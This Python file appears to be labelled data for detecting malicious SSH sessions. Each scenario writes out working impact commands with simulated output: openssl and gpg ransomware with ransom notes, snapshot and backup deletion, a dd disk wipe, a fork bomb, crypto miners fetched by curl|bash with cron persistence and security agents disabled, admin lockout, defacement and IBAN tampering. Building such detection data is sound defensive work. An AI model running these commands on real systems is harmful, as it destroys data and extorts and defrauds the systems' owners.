"""Malicious sessions: impact (ransomware, destruction, miners, denial of service, sabotage)."""

from dsl import B, c, k, kp, p, ssh, wait, typo
from snips import chars, hexs, ps_rows

WALLET = "48Ad" + chars("wallet", 91)

SCENARIOS = [
    ssh("ransomware-openssl-fileshare", "dev.patel:root@fileshare-02", style="plain",
        T="T1083 T1486 T1490 T1491.001",
        risk="CRITICAL",
        desc="Encrypts office documents and database exports on the file share with openssl, deletes originals and snapshots and drops a ransom note",
        steps=[
            c("df -h /srv/data; find /srv/data -type f | wc -l", "Filesystem      Size  Used Avail Use% Mounted on\n/dev/sdb1       2.0T  1.3T  612G  69% /srv/data\n184402"),
            k("lvs --noheadings -o lv_name vg_data | grep snap | xargs -r -I{} lvremove -f vg_data/{}", "  Logical volume \"snap-daily-0319\" successfully removed.\n  Logical volume \"snap-daily-0320\" successfully removed."),
            kp("export K=" + chars("ransomkey", 32) + "; find /srv/data -type f \\( -name '*.docx' -o -name '*.xlsx' -o -name '*.pdf' -o -name '*.sql' -o -name '*.csv' \\) -print0 | xargs -0 -P4 -I{} sh -c 'openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:K -in \"{}\" -out \"{}.lckd\" && shred -u \"{}\"'", run=1500),
            kp("find /srv/data -type d -exec sh -c 'printf \"Your files are encrypted. Contact recover@proton.example with ID " + hexs("victim", 16) + "\\n\" > \"$1/README_RECOVER.txt\"' _ {} \\;", run=20),
            c("ls /srv/data/finance | head -4", "2024-annual-report.pdf.lckd\nREADME_RECOVER.txt\nbudget-2025.xlsx.lckd\npayroll-export.csv.lckd"),
            c("unset K; history -c"),
        ]),

    ssh("ransomware-gpg-db-backups", "ivan.petrov:root@pg-shop-01", style="debian",
        T="T1489 T1486 T1490",
        risk="CRITICAL",
        desc="Stops PostgreSQL, encrypts its data directory with gpg and deletes the local backups",
        steps=[
            k("systemctl stop postgresql"),
            k("tar cf - /var/lib/postgresql/14/main | gpg --batch --yes --symmetric --cipher-algo AES256 --passphrase " + chars("gpgpass", 24) + " -o /var/lib/postgresql/main.tar.gpg", run=180),
            k("rm -rf /var/lib/postgresql/14/main /var/backups/postgres/*"),
            c("echo 'All databases encrypted. Send 3 BTC to bc1q" + chars("btc", 38).lower() + " and mail the ID below.' > /var/lib/postgresql/README.txt"),
            c("ls -la /var/lib/postgresql/", "total 18433100\ndrwxr-xr-x  3 postgres postgres        4096 Mar 23 04:12 .\ndrwxr-xr-x 44 root     root            4096 Nov  4 10:02 ..\n-rw-r--r--  1 root     root             121 Mar 23 04:13 README.txt\ndrwxr-xr-x  2 postgres postgres        4096 Mar 23 04:12 14\n-rw-r--r--  1 root     root     18875731968 Mar 23 04:12 main.tar.gpg"),
        ]),

    ssh("wipe-app-data-rm-rf", "carol.diaz:root@app-15", style="plain",
        T="T1489 T1485 T1490",
        risk="CRITICAL",
        desc="Stops the application and database services and recursively deletes their data directories and backups",
        steps=[
            k("systemctl stop app-worker app-web mariadb"),
            k("rm -rf /var/lib/mysql /srv/app/uploads /srv/app/releases"),
            k("rm -rf /backup/*"),
            c("ls /var/lib/mysql /backup", "ls: cannot access '/var/lib/mysql': No such file or directory\n/backup:"),
        ]),

    ssh("disk-wipe-dd", "bob.martin:root@db-06", style="plain",
        T="T1680 T1561.001 T1561.002 T1529",
        risk="CRITICAL",
        desc="Lists the block devices, overwrites the data disk with random bytes, erases the boot disk's partition table and reboots",
        steps=[
            c("lsblk -d -o NAME,SIZE,TYPE,MOUNTPOINT", "NAME     SIZE TYPE MOUNTPOINT\nnvme0n1   50G disk \nnvme1n1  1.5T disk /var/lib/mysql"),
            k("umount -l /var/lib/mysql; dd if=/dev/urandom of=/dev/nvme1n1 bs=4M status=progress", """
                1610612736000 bytes (1.6 TB, 1.5 TiB) copied, 2514 s, 641 MB/s
                dd: error writing '/dev/nvme1n1': No space left on device
                384001+0 records in
                384000+0 records out
                1610612736000 bytes (1.6 TB, 1.5 TiB) copied, 2514.22 s, 641 MB/s""", run=2514),
            k("wipefs -a -f /dev/nvme0n1", "/dev/nvme0n1: 8 bytes were erased at offset 0x00000200 (gpt): 45 46 49 20 50 41 52 54\n/dev/nvme0n1: 8 bytes were erased at offset 0xc7ffffe00 (gpt): 45 46 49 20 50 41 52 54\n/dev/nvme0n1: 2 bytes were erased at offset 0x000001fe (PMBR): 55 aa"),
            k("echo b > /proc/sysrq-trigger"),
        ]),

    ssh("fork-bomb-dos", "uma.iyer:deploy@api-prod-08", style="debian",
        T="T1499.001",
        risk="HIGH",
        desc="Launches a bash fork bomb that exhausts the process table of a production API host",
        steps=[
            c(typo("ulimit -u", 2, "m"), "unlimited"),
            k(":(){ :|:& };:", "bash: fork: retry: Resource temporarily unavailable\nbash: fork: retry: Resource temporarily unavailable\nbash: fork: retry: Resource temporarily unavailable\nbash: fork: Resource temporarily unavailable", run=15),
        ]),

    ssh("xmrig-miner-download", "frank.nguyen:ubuntu@gpu-02", style="debian",
        T="T1105 T1496.001 T1564.011",
        risk="HIGH-CRITICAL",
        desc="Downloads XMRig from GitHub and runs it in the background against a public Monero pool",
        steps=[
            c("nproc; free -g | head -2", "64\n               total        used        free      shared  buff/cache   available\nMem:             251          18         201           0          31         230"),
            kp("cd /var/tmp && curl -fsSL https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz | tar xz"),
            c("cd xmrig-6.21.0"),
            kp(f"nohup ./xmrig -o pool.supportxmr.com:443 -u {WALLET} -p gpu02 -k --tls --cpu-max-threads-hint=90 --donate-level=1 >/dev/null 2>&1 &", "[1] 40213"),
            c("top -bn1 | head -9", """
                top - 01:44:12 up 12 days,  3:18,  1 user,  load average: 58.12, 22.07, 8.31
                Tasks: 512 total,   2 running, 510 sleeping,   0 stopped,   0 zombie
                %Cpu(s): 89.7 us,  0.4 sy,  0.0 ni,  9.8 id,  0.0 wa,  0.0 hi,  0.1 si,  0.0 st
                MiB Mem : 257614.3 total, 204118.2 free,  19044.8 used,  34451.3 buff/cache
                MiB Swap:      0.0 total,      0.0 free,      0.0 used. 236580.1 avail Mem

                    PID USER      PR  NI    VIRT    RES    SHR S  %CPU  %MEM     TIME+ COMMAND
                  40213 ubuntu    20   0 2703224   2.3g   4820 S  5740   0.9  41:12.07 xmrig
                   2210 root      20   0 1814432  64112  34120 S   2.0   0.0  31:44.51 containerd"""),
        ]),

    ssh("kinsing-style-loader", "alice.chen:root@docker-host-03", style="plain",
        T="T1105 T1059.004 T1685 T1053.003 T1496.001 T1036.005",
        risk="CRITICAL",
        desc="Pipes a loader script to bash that kills competing miners and security agents, installs cron persistence and starts a miner named kdevtmpfsi",
        steps=[
            kp("curl -fsSL http://198.51.100.77/d.sh | bash", """
                [*] killing competitors
                kill: (3112): No such process
                [*] disabling security
                Removed /etc/systemd/system/multi-user.target.wants/aliyun.service.
                Removed /etc/systemd/system/multi-user.target.wants/falcon-sensor.service.
                [*] ufw: Firewall stopped and disabled on system startup
                [*] cron installed
                [*] kdevtmpfsi started (pid 88231)""", run=9),
            c("crontab -l", "*/5 * * * * curl -fsSL http://198.51.100.77/d.sh | bash > /dev/null 2>&1"),
            c("ps -o pid,pcpu,cmd -p 88231", "    PID %CPU CMD\n  88231  390 /tmp/kdevtmpfsi"),
        ]),

    ssh("masqueraded-kworker-miner", "li.wei:root@batch-03", style="plain",
        T="T1105 T1036.005 T1564.001 T1564.011 T1496.001",
        risk="HIGH-CRITICAL",
        desc="Hides a miner as a kernel worker thread: hidden directory, process name [kworker/u8:2], nohup, then checks ps",
        steps=[
            k("mkdir -p /usr/lib/.kw && curl -fsSLo /usr/lib/.kw/kworker http://198.51.100.77/m/xm && chmod +x /usr/lib/.kw/kworker"),
            kp(f"(exec -a '[kworker/u8:2-events]' nohup /usr/lib/.kw/kworker -o 203.0.113.91:3333 -u {WALLET[:40]} -B >/dev/null 2>&1 &)"),
            c("ps aux | grep kworker/u8 | head -3", ps_rows([
                "root 412 0.0 0.0 0 0 ? I 02:01 0:00 [kworker/u8:2-flush-259:0]",
                "root 60312 395 0.2 2632928 24120 ? Ssl 03:17 0:47 [kworker/u8:2-events]"]).split("\n", 1)[1]),
        ]),

    ssh("stop-services-shutdown", "sam.okafor:root@shop-web-01", style="debian",
        T="T1489 T1529",
        risk="HIGH-CRITICAL",
        desc="Stops and disables the shop's web, PHP and database services and schedules a shutdown",
        steps=[
            k("systemctl stop nginx php8.1-fpm mysql && systemctl disable nginx php8.1-fpm mysql", "Synchronizing state of nginx.service with SysV service script with /lib/systemd/systemd-sysv-install.\nExecuting: /lib/systemd/systemd-sysv-install disable nginx\nRemoved /etc/systemd/system/multi-user.target.wants/nginx.service.\nRemoved /etc/systemd/system/multi-user.target.wants/php8.1-fpm.service.\nRemoved /etc/systemd/system/multi-user.target.wants/mysql.service."),
            k("shutdown -h +1", "Shutdown scheduled for Sun 2025-03-23 04:02:11 UTC, use 'shutdown -c' to cancel."),
        ]),

    ssh("website-defacement", "victor.ruiz:deploy@web-16", style="debian",
        T="T1491.002",
        risk="HIGH",
        desc="Overwrites the public site's index pages with a defacement message",
        steps=[
            c("ls /var/www", "html  shop  status"),
            kp("for d in /var/www/html /var/www/shop/public /var/www/status; do echo '<html><body style=\"background:#000;color:#0f0\"><h1>owned by gh0st_crew</h1><p>your security is a joke</p></body></html>' > $d/index.html; done"),
            c("curl -s localhost | head -1", "<html><body style=\"background:#000;color:#0f0\"><h1>owned by gh0st_crew</h1><p>your security is a joke</p></body></html>"),
        ]),

    ssh("backup-snapshot-destruction", "tom.becker:root@backup-01", style="plain",
        T="T1490 T1485",
        risk="CRITICAL",
        desc="Deletes restic snapshots, ZFS snapshots and the backup repository so the environment cannot be restored",
        steps=[
            c("zfs list -t snapshot | head -4", "NAME                          USED  AVAIL     REFER  MOUNTPOINT\ntank/backup@auto-2025-03-20   1.2G      -     2.11T  -\ntank/backup@auto-2025-03-21   1.1G      -     2.11T  -\ntank/backup@auto-2025-03-22   1.4G      -     2.12T  -"),
            k("zfs list -H -o name -t snapshot | xargs -n1 zfs destroy"),
            k("restic -r /tank/backup/restic --password-file /etc/restic.pass forget --keep-last 1 --prune -q"),
            k("rm -rf /tank/backup/restic /tank/backup/pg /tank/backup/etc", run=30),
        ]),

    ssh("admin-accounts-locked-out", "julia.santos:root@bastion-04", style="rhel",
        T="T1531 T1098",
        risk="CRITICAL",
        desc="Locks the other administrators out: changes root's password, locks and de-shells admin accounts and kills their sessions",
        steps=[
            c("getent group wheel", "wheel:x:10:ops,akim,tbecker,jsantos"),
            k("echo 'root:" + chars("lockout", 18) + "' | chpasswd"),
            k("for u in ops akim tbecker; do passwd -l $u; usermod -s /sbin/nologin $u; done", "Locking password for user ops.\npasswd: Success\nLocking password for user akim.\npasswd: Success\nLocking password for user tbecker.\npasswd: Success"),
            k("for u in ops akim tbecker; do rm -f /home/$u/.ssh/authorized_keys; pkill -KILL -u $u; done"),
        ]),

    ssh("payout-iban-tampering", "omar.haddad:deploy@payouts-01", style="debian",
        T="T1565.001 T1657",
        risk="HIGH-CRITICAL",
        desc="Replaces the IBAN in the payout service's bank configuration with an attacker account and reloads the service",
        steps=[
            c("grep -n -A2 'settlement_account' /srv/payouts/config/bank.yml", "14:settlement_account:\n15-  iban: DE89370400440532013000\n16-  bic: COBADEFFXXX"),
            k("sed -i 's/iban: DE89370400440532013000/iban: LT601010012345678901/' /srv/payouts/config/bank.yml"),
            c("sudo systemctl reload payouts"),
            c("grep -A1 settlement_account /srv/payouts/config/bank.yml", "settlement_account:\n  iban: LT601010012345678901"),
        ]),
]
